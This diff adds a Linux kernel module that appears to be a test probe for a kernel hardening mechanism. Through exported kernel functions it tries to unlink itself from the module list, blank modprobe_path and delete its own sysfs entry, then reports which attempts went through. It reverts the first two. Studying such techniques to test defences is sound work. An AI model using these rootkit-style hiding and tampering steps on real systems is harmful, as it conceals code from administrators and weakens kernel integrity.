@@ -1,0 +1,49 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * Attack: have the kernel write for us (a confused deputy). memcpy unlinks
+ * us from the module list, memset blanks modprobe_path, kobject_del takes
+ * us out of /sys/module: exported, allowed functions, which run with the
+ * kernel's rights.
+ */
+#include <linux/module.h>
+#include <linux/string.h>
+#include <linux/kobject.h>
+#include "alias.h"
+
+static unsigned long modprobe;
+module_param(modprobe, ulong, 0400);
+static unsigned int word = sizeof(void *), path = 8;
+module_param(word, uint, 0400);
+module_param(path, uint, 0400);
+
+static int __init atk_init(void)
+{
+	struct list_head *me = &THIS_MODULE->list, *prev = me->prev, *next = me->next;
+	/* Through pointers, so that these are calls into the kernel and not
+	 * stores the compiler inlines into this module. */
+	void *(*volatile copy)(void *, const void *, size_t) = memcpy;
+	void *(*volatile fill)(void *, int, size_t) = memset;
+	size_t w = word, n = path;
+	char before[8];
+	bool unlinked, blanked;
+
+	if (!modprobe || w != sizeof(void *) || n > sizeof(before))
+		return -EINVAL;
+	/* prev->next = next, as list_del would, but written by memcpy. */
+	copy(&prev->next, &next, w);
+	unlinked = READ_ONCE(prev->next) != me;
+	if (unlinked)
+		WRITE_ONCE(prev->next, me);
+	memcpy(before, (void *)modprobe, n);
+	fill((void *)modprobe, 0, n);
+	blanked = memcmp(before, (void *)modprobe, n) != 0;
+	if (blanked)
+		copy((void *)modprobe, before, n);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	report("memcpy onto the module list %s, memset on modprobe_path %s, kobject_del of its own kobject %s",
+	       unlinked ? "WENT THROUGH" : "blocked", blanked ? "WENT THROUGH" : "blocked",
+	       THIS_MODULE->mkobj.kobj.state_in_sysfs ? "blocked" : "WENT THROUGH");
+	return -EACCES;
+}
+module_init(atk_init);
+MODULE_LICENSE("GPL");
